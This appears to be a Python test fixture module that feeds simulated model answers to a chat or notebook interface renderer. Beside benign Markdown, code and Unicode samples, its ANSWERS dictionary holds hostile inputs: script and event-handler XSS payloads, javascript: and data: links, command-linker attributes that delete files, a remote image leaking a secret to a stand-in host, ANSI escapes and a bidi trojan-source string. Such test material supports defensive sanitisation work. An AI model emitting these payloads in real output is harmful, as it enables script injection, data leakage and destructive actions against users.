"""What models say, good and bad. Keys are the names a scenario may give as `answer`."""

from __future__ import annotations

import re

_TOKEN = re.compile(r"\s?\w{1,6}|\s?[^\w\s]|\s+")


def to_tokens(text: str) -> list[str]:
    """About the pieces a model streams: joined they are the text again."""
    return _TOKEN.findall(text)


def words(n: int) -> list[str]:
    """`n` tokens in paragraphs of 60 words: w0 w1 w2 ..."""
    return [f"w{i}" if i == 0 else f" w{i}" if i % 60 else f"\n\nw{i}" for i in range(n)]


_SECTION = """## Step {i}: read and reduce

The frame has **{i} columns** and some `NaN` rows; see [the notes](notes.md) and *check the units* before you plot.

```python
import pandas as pd

frame = pd.read_csv("data/part-{i}.csv")
mean = frame.groupby("site")["value"].mean()
print(mean.sort_values(ascending=False).head({i}))
```

| site | value | share |
| --- | ---: | ---: |
| north | {i}.25 | 12 % |
| south | 3.{i} | 31 % |
| east | 8.0 | 57 % |

1. Read the file.
2. Group by `site`:
   - mean of `value`
   - count of rows
3. Sort, then plot.

> A mean hides the spread: draw the quantiles too.

"""
_MATHS = r"""The variance of sample {i} is $s^2 = \frac{{1}}{{n-1}}\sum_i (x_i - \bar x)^2$, so that

$$
\hat\sigma_{{{i}}} = \sqrt{{\frac{{1}}{{n-1}} \sum_{{k=1}}^{{n}} (x_k - \bar{{x}})^2}}
$$

"""


def markdown(n: int, maths: bool = False) -> list[str]:
    """Exactly `n` tokens of Markdown with headings, lists, tables and code, and maths if asked."""
    tokens: list[str] = []
    i = 0
    while len(tokens) < n:
        i += 1
        tokens += to_tokens(_SECTION.format(i=i) + (_MATHS.format(i=i) if maths else ""))
    return tokens[:n]


ANSWERS = {
    "plain": "The answer is 42.",
    "korean": "네, 이 셀은 데이터를 읽고 평균을 계산합니다. 🎉 이모지도 그대로 보입니다.",
    "code": "Use this:\n\n```python\nimport math\n\nprint(math.sqrt(2))\n```\n\nThen run it.",
    "table": "| a | b |\n| --- | --- |\n| 1 | 2 |\n\nDone.",
    "separators": "one\u2028two\u2029three\u0085four\x0bfive\x0csix\x1cseven",
    "html": (
        "<h1>Hi</h1><style>body{display:none}</style><form action='/logout'><button>go</button></form>"
        "<iframe src='/lab'></iframe><svg onload='window.pwned=1'></svg> end of html"
    ),
    "script": "<script>window.pwned = 1</script><img src=x onerror='window.pwned=1'> end of script",
    "javascript_link": (
        "[click me](javascript:window.pwned=1) <a href='javascript:window.pwned=1'>or me</a> "
        "[data](data:text/html,<script>window.pwned=1</script>) end of links"
    ),
    "command_linker": (
        '<a href="#" data-commandlinker-command="filebrowser:delete" data-commandlinker-args="{}">run</a> '
        '<button data-commandlinker-command="application:close-all">close</button> end of commands'
    ),
    "remote_image": (
        "![chart](http://images.example.invalid/leak.png?q=secret) "
        "<img src='//images.example.invalid/leak2.png'> end of images"
    ),
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;http://example.invalid\x07link\x1b]8;;\x07 \x1b[2J end of ansi",
    "bidi": 'access = "user\u202e \u2066// only admins\u2069 \u2066" end of bidi',
    "endless_line": "x" * 200_000,
    "backticks": "````markdown\n```python\nprint('inner')\n```\n````\n\nend of fences",
}
